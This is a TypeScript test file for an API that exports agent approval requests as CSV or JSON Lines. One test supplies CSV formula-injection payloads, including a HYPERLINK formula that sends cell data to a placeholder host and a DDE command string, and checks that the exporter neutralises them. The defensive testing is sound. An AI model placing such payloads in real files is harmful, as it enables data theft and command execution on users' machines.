import { setTimeout as sleep } from "node:timers/promises";
import { afterAll, describe, expect, it } from "vitest";
import { createApi } from "../../lib/api/v1/routes";
import { getDb } from "../../lib/db";
import { getProtocolType } from "../../lib/protocol/registry";
import { EXPORT_COLUMNS, encodeCsvCell, streamRequestsExport } from "../../lib/requests/export";
import { createRequestInTransaction } from "../../lib/requests/mutations";
import { requestViewSchema } from "../../lib/shared/api/request";
import { inTransaction } from "../../lib/transaction";
import { parseCsv } from "../support/csv";
import { checkDeclaredResponse, findRoute } from "../support/declared-responses";
import { signedInHuman } from "../route-client";
import { api, createToken, lead, registerAgent, submitPlan, type TestAgent } from "./fixtures";

afterAll(() => getDb().$disconnect());

const router = createApi();

/** Through the API's real router, so `export` must reach its own route and not `/requests/{id}`. */
async function exportRequests(headers: Record<string, string>, query: string) {
  const path = `/api/v1/requests/export?${query}`;
  const response = await router.fetch(
    new Request(`http://127.0.0.1:3000${path}`, {
      headers: { host: "127.0.0.1:3000", ...headers },
    }),
  );
  const text = await response.text();
  if (response.status !== 200) {
    checkDeclaredResponse(
      findRoute("GET", "/api/v1/requests/export"),
      response.status,
      JSON.parse(text),
    );
  }
  return { status: response.status, headers: response.headers, text };
}

/** The CSV as objects keyed by its header row. */
function readCsv(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  expect(header).toEqual([...EXPORT_COLUMNS]);
  return rows.map((row) => {
    expect(row).toHaveLength(EXPORT_COLUMNS.length);
    return Object.fromEntries(EXPORT_COLUMNS.map((column, index) => [column, row[index] ?? ""]));
  });
}

async function decidePlan(agent: TestAgent, approve: boolean, feedback?: string) {
  const id = String((await submitPlan(agent, `plan ${Math.random()}`)).json.id);
  const response = await api.respond((await lead()).headers, id, {
    type: "plan_approval_response",
    approve,
    ...(feedback !== undefined ? { feedback } : {}),
  });
  expect(response.status).toBe(200);
  return id;
}

describe("GET /api/v1/requests/export", () => {
  it("exports every request the history's filters match, and only those, as CSV that parses back", async () => {
    const { headers } = await lead();
    const alice = await registerAgent({ requirePlan: true });
    const bob = await registerAgent({ requirePlan: true });
    const approved = await decidePlan(alice, true);
    const rejected = await decidePlan(alice, false, "split it");
    await decidePlan(bob, true);

    const all = await exportRequests(
      headers,
      `format=csv&agent=${alice.name}&status=approved,rejected`,
    );
    expect(all.status).toBe(200);
    expect(all.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(all.headers.get("content-disposition")).toMatch(
      /^attachment; filename="handshake-requests-[0-9TZ-]+\.csv"$/,
    );
    const rows = readCsv(all.text);
    expect(rows.map((row) => row.id)).toEqual([rejected, approved]);
    expect(rows[0]).toMatchObject({
      agent: alice.name,
      type: "plan_approval",
      status: "rejected",
      feedback: "split it",
      decided_by_kind: "human",
      decided_by: `${(await lead()).email} (session)`,
      responded_by: (await lead()).email,
      required_approvals: "1",
    });
    expect(JSON.parse(rows[0]?.payload ?? "")).toMatchObject({ plan: expect.any(String) });

    const onlyApproved = readCsv(
      (await exportRequests(headers, `format=csv&agent=${alice.name}&status=approved`)).text,
    );
    expect(onlyApproved.map((row) => row.id)).toEqual([approved]);
    const byType = readCsv(
      (await exportRequests(headers, `format=csv&agent=${alice.name}&type=shutdown`)).text,
    );
    expect(byType).toEqual([]);
  });

  it("makes cells a spreadsheet would run inert, and keeps quotes, commas and line breaks intact", async () => {
    const { headers } = await lead();
    const agent = await registerAgent({ requirePlan: true });
    const hostile = [
      `=HYPERLINK("http://evil.example/?"&A1,"click")`,
      "+1+cmd|' /C calc'!A0",
      "-2-3",
      "@SUM(A1:A9)",
      'a "quoted", comma\r\nand a second line',
    ];
    const ids: string[] = [];
    for (const feedback of hostile) ids.push(await decidePlan(agent, false, feedback));

    const rows = readCsv((await exportRequests(headers, `format=csv&agent=${agent.name}`)).text);
    const byId = new Map(rows.map((row) => [row.id, row.feedback]));
    expect(ids.map((id) => byId.get(id))).toEqual([
      `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
      "'+1+cmd|' /C calc'!A0",
      "'-2-3",
      "'@SUM(A1:A9)",
      'a "quoted", comma\r\nand a second line',
    ]);
    expect(encodeCsvCell("\t=1")).toBe(`"'\t=1"`);
    expect(encodeCsvCell("")).toBe('""');
  });

  it("JSON Lines: one request view per line, the API's own shape", async () => {
    const { headers } = await lead();
    const agent = await registerAgent({ requirePlan: true });
    const id = await decidePlan(agent, true);
    const response = await exportRequests(headers, `format=jsonl&agent=${agent.name}`);
    expect(response.headers.get("content-type")).toBe("application/jsonl; charset=utf-8");
    const lines = response.text.split("\n");
    expect(lines.at(-1)).toBe("");
    const views = lines.slice(0, -1).map((line) => requestViewSchema.parse(JSON.parse(line)));
    expect(views.map((view) => view.id)).toEqual([id]);
    expect(views[0]?.decidedBy?.kind).toBe("human");
  });

  it("streams every page by cursor, not just the first", async () => {
    const agent = await registerAgent({ requirePlan: true });
    const ids: string[] = [];
    for (let i = 0; i < 5; i += 1) ids.push(await decidePlan(agent, true));
    const stream = streamRequestsExport(getDb(), { agent: agent.name }, "csv", 2);
    const chunks: string[] = [];
    const decoder = new TextDecoder();
    const reader = stream.getReader();
    for (let read = await reader.read(); !read.done; read = await reader.read()) {
      chunks.push(decoder.decode(read.value));
    }
    // The header, then three pages of at most two rows.
    expect(chunks).toHaveLength(4);
    expect(readCsv(chunks.join("")).map((row) => row.id)).toEqual(ids.reverse());
  });

  it("flattens a two-person decision: both Leads, their ids and the approvals", async () => {
    const first = await signedInHuman("lead");
    const second = await signedInHuman("lead");
    const token = await createToken("decide", second);
    await sleep(5);
    const agent = await registerAgent({ requirePlan: true });
    const row = await getDb().agent.findUniqueOrThrow({ where: { name: agent.name } });
    const { request } = await inTransaction(getDb(), (tx) =>
      createRequestInTransaction(tx, {
        definition: getProtocolType("plan_approval"),
        direction: "agent_to_lead",
        agentId: row.id,
        payload: { plan: "rotate the keys" },
        requiredApprovals: 2,
      }),
    );
    await sleep(5);
    const approve = { type: "plan_approval_response", approve: true };
    await api.respond(first.headers, request.id, approve);
    expect((await api.respond(token.headers, request.id, approve)).json.status).toBe("approved");

    const [exported] = readCsv(
      (await exportRequests(first.headers, `format=csv&agent=${agent.name}`)).text,
    );
    const userIds = await Promise.all(
      [first, second].map(
        async ({ email }) => (await getDb().user.findUniqueOrThrow({ where: { email } })).id,
      ),
    );
    expect(exported).toMatchObject({
      decided_by_kind: "leads",
      decided_by: `two Leads: ${first.email} (session) and token '${token.name}' of ${second.email}`,
      decided_by_user_ids: userIds.join("; "),
      decided_by_token_ids: token.id,
      decided_by_token_names: token.name,
      required_approvals: "2",
      approved_by: `${first.email}; ${second.email}`,
    });
  });

  it("a viewer and a read token may export; an agent may not; an unknown format is 422", async () => {
    const viewer = await signedInHuman("viewer");
    expect((await exportRequests(viewer.headers, "format=csv&agent=nobody")).status).toBe(200);
    const read = await createToken("read");
    expect((await exportRequests(read.headers, "format=jsonl&agent=nobody")).text).toBe("");
    const agent = await registerAgent();
    expect((await exportRequests(agent.headers, "format=csv")).status).toBe(403);
    expect((await exportRequests({}, "format=csv")).status).toBe(401);

    const unknown = await exportRequests(viewer.headers, "format=xlsx");
    expect(unknown.status).toBe(422);
    expect(JSON.parse(unknown.text).error.code).toBe("UNSUPPORTED_EXPORT_FORMAT");
    const missing = await exportRequests(viewer.headers, "agent=nobody");
    expect(missing.status).toBe(400);
    const badFilter = await exportRequests(viewer.headers, "format=csv&status=maybe");
    expect(badFilter.status).toBe(400);
  });
});
